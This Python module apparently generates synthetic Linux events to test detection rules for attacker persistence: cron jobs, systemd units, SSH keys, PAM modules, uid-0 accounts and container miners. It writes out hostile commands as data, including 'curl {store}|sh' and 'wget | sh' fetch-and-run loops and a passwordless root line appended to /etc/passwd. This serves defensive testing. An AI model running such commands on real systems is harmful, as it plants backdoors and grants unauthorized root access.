"""Scenes of attackers who mean to stay: jobs, units, profiles, keys, accounts, login modules."""

# ruff: noqa: D401, S108 - a docstring tells the plot; paths and addresses are part of a story, nothing is opened
from __future__ import annotations

from typing import TYPE_CHECKING

from ruleglot.events.activity import (
    Access,
    Call,
    ChangeMode,
    ChangeOwner,
    Connect,
    DirectoryCreate,
    Error,
    Exec,
    FileCreate,
    FileDelete,
    FileOpen,
    FileRename,
    FileWrite,
    HardLink,
    Symlink,
)
from ruleglot.events.identity import Layer
from ruleglot.events.scenes.stage import NEW, TEMPORARY, after

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ruleglot.events.activity import LinuxActivity
    from ruleglot.events.scenes.stage import Scene, Stage


def cron_jobs(stage: Stage) -> Iterator[LinuxActivity]:
    """A job that comes back, left by curl in a container, by a service, on the host."""
    job, store = "/etc/cron.d/x", stage.cast.details.store
    line = f"curl -o {job} http://{store}/x"
    curl = stage.start(stage.cast.web_shell, "/usr/bin/curl", line)
    quiet = stage.start(stage.cast.nginx, "/usr/bin/curl", line)
    yield FileCreate(process=curl, path=job, story="curl in a container drops a cron job")
    yield FileCreate(process=quiet, path=job, story="the same without a terminal")
    yield FileCreate(
        process=stage.start(stage.cast.bash, "/usr/bin/curl", line), path=job, story="the same on the host"
    )
    yield FileOpen(process=curl, path=job, access=Access.OVERWRITE, story="a cron job is overwritten")
    yield FileOpen(process=curl, path=job, access=Access.APPEND, story="a cron job gets one line more")
    yield FileRename(process=curl, original="/etc/cron.d/.tmp", path=job, story="a cron job gets its name")
    yield FileDelete(process=curl, path=job, story="a cron job is removed")
    shell = stage.start(
        stage.cast.bash, "/bin/sh", f"sh -c '(crontab -l; echo \"* * * * * curl {store}|sh\")|crontab -'"
    )
    crontab = stage.start(shell, "/usr/bin/crontab", "crontab -")
    temporary = f"/var/spool/cron/crontabs/tmp.{stage.suffix()}"
    yield Exec(process=shell, story="a line for the crontab, by a pipe")
    yield FileCreate(process=crontab, path=temporary, access=TEMPORARY, mode=0o600, story="a new crontab is written")
    yield FileRename(
        process=crontab, original=temporary, path="/var/spool/cron/crontabs/bob", call=Call.RENAME, story="and is bob's"
    )
    at = stage.start(stage.cast.bash, "/usr/bin/at", "at now + 1 minute")
    yield Exec(process=at, story="a job for the next minute")


def units(stage: Stage) -> Iterator[LinuxActivity]:
    """Systemd, and what was before it, start the attacker's program."""
    admin, bash, start = stage.cast.root_shell, stage.cast.bash, stage.start
    unit = "/etc/systemd/system/dbus-helper.service"
    tee = start(admin, "/usr/bin/tee", f"tee {unit}")
    yield FileCreate(process=tee, path=unit, story="a unit with a harmless name")
    yield Exec(
        process=start(admin, "/usr/bin/systemctl", "systemctl enable dbus-helper"),
        story="which is wanted at every start",
    )
    yield FileCreate(process=admin, path="/usr/lib/systemd/system/dbus-helper.timer", story="and a timer for it")
    yield DirectoryCreate(process=bash, path=".config/systemd/user", story="a place for units of bob's own")
    yield FileCreate(process=bash, path=".config/systemd/user/sync.service", story="a unit that needs no root")
    yield FileOpen(process=admin, path="/etc/rc.local", access=Access.APPEND, story="a line for the old way to start")
    yield FileCreate(process=admin, path="/etc/init.d/netfs", mode=0o755, story="and a script for the older one")
    yield Symlink(process=admin, target="../init.d/netfs", path="/etc/rc3.d/S99netfs", story="the script has its turn")
    yield FileCreate(process=admin, path="/etc/udev/rules.d/99-net.rules", story="a program for each new device")
    yield FileCreate(process=admin, path="/etc/update-motd.d/05-news", mode=0o755, story="a program for each login")
    yield ChangeMode(
        process=start(admin, "/usr/bin/chmod", "chmod 755 /etc/update-motd.d/05-news"),
        path="/etc/update-motd.d/05-news",
        mode=0o755,
        story="it is made executable",
    )
    yield FileCreate(process=admin, path="/etc/apt/apt.conf.d/00update", story="a program before each upgrade")


def logins(stage: Stage) -> Iterator[LinuxActivity]:
    """Keys, profiles and login modules."""
    admin, apache, start = stage.cast.root_shell, stage.cast.apache, stage.start
    yield DirectoryCreate(process=admin, path="/root/.ssh", mode=0o700, story="root gets a place for keys")
    keys = FileOpen(
        process=admin, path="/root/.ssh/authorized_keys", access=Access.APPEND, story="a stranger's key for root"
    )
    yield keys
    yield FileWrite(process=after(keys), descriptor=keys.descriptor, data=b"ssh-ed25519 AAAA", story="is written down")
    yield FileOpen(
        process=apache,
        path="/home/bob/.ssh/authorized_keys",
        access=Access.APPEND,
        error=Error.EACCES,
        story="a web server cannot add a key for bob",
    )
    yield FileOpen(process=stage.cast.bash, path=".profile", access=Access.APPEND, story="a line for bob's logins")
    yield FileCreate(process=admin, path="/etc/profile.d/lang.sh", story="a line for everybody's logins")
    yield FileOpen(process=admin, path="/etc/pam.d/sshd", access=Access.APPEND, story="one login module more")
    module = "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"
    yield FileRename(process=admin, original=module, path=f"{module}.bak", story="the module for passwords steps aside")
    yield FileCreate(
        process=start(admin, "/usr/bin/cp", f"cp pam_unix.so {module}"),
        path=module,
        access=NEW,
        story="and another one is there",
    )
    yield FileOpen(
        process=admin, path="/etc/ssh/sshd_config", access=Access.OVERWRITE, story="root may log in by password"
    )
    yield HardLink(
        process=start(admin, "/usr/bin/ln", "ln /usr/bin/bash /usr/bin/.sh"),
        original="/usr/bin/bash",
        path="/usr/bin/.sh",
        story="bash gets a hidden second name",
    )


def accounts(stage: Stage) -> Iterator[LinuxActivity]:
    """New accounts with the rights of root."""
    admin, start = stage.cast.root_shell, stage.start
    useradd = start(admin, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd")
    yield Exec(process=useradd, story="a second account with the number of root")
    yield HardLink(
        process=useradd,
        original=f"/etc/passwd.{useradd.pid}",
        path="/etc/passwd.lock",
        call=Call.LINK,
        error=Error.EEXIST,
        story="somebody else holds the lock on passwd",
    )
    yield Exec(
        process=start(admin, "/bin/sh", "sh -c 'echo \"sysd::0:0::/root:/bin/sh\" >> /etc/passwd'"),
        story="a line for passwd by hand",
    )
    yield FileOpen(process=admin, path="/etc/passwd", access=Access.APPEND, story="passwd gets one line more")
    yield Exec(
        process=start(admin, "/usr/sbin/usermod", "usermod -aG sudo backup"), story="an old account gets new rights"
    )
    yield Exec(process=start(admin, "/usr/sbin/chpasswd", "chpasswd"), story="and a password")
    yield FileCreate(
        process=admin, path="/etc/sudoers.d/90-cloud", mode=0o440, story="who may do all without a password"
    )
    yield ChangeOwner(process=admin, path="/etc/sudoers.d/90-cloud", user=0, group=0, story="as sudo wants it")


def in_containers(stage: Stage) -> Iterator[LinuxActivity]:
    """What stays in a container, or comes back with it."""
    store = stage.cast.details.store
    miner = stage.start(stage.cast.web_shell, "/tmp/kinsing", "/tmp/kinsing", cwd="/tmp", layer=Layer.UPPER)
    yield FileCreate(process=miner, path="/etc/ld.so.preload", story="a miner hides")
    yield FileCreate(process=miner, path="/entrypoint.sh", story="a miner comes back with the container")
    yield FileOpen(process=miner, path="/usr/bin/ps", access=Access.TRUNCATE, story="a program is emptied")
    yield FileRename(process=miner, original="/usr/bin/top", path="/usr/bin/top.original", story="top is moved away")
    yield FileCreate(process=miner, path="/usr/bin/top", mode=0o755, story="another top takes its place")
    yield ChangeMode(process=miner, path="/usr/bin/top", mode=0o755, call=Call.CHMOD, story="and can be run")
    yield Connect(
        process=miner, source=stage.in_pod(), destination=stage.store(443), story="it fetches its orders every hour"
    )
    yield FileCreate(
        process=stage.cast.debug_shell,
        path="/host/etc/kubernetes/manifests/kube-helper.yaml",
        story="a pod that every start brings back",
    )
    dropbear = stage.start(
        stage.cast.newborn_shell, "/usr/sbin/dropbear", "dropbear -p 2222 -R", layer=Layer.UPPER, leads_session=True
    )
    yield Exec(process=dropbear, story="an ssh server in a container")
    yield Exec(
        process=stage.applet(stage.cast.newborn_shell, "/bin/sh", f"sh -c 'while :; do wget -qO- {store} | sh; done'"),
        story="a loop that fetches its orders",
    )


HOSTILE: tuple[Scene, ...] = (cron_jobs, units, logins, accounts, in_containers)
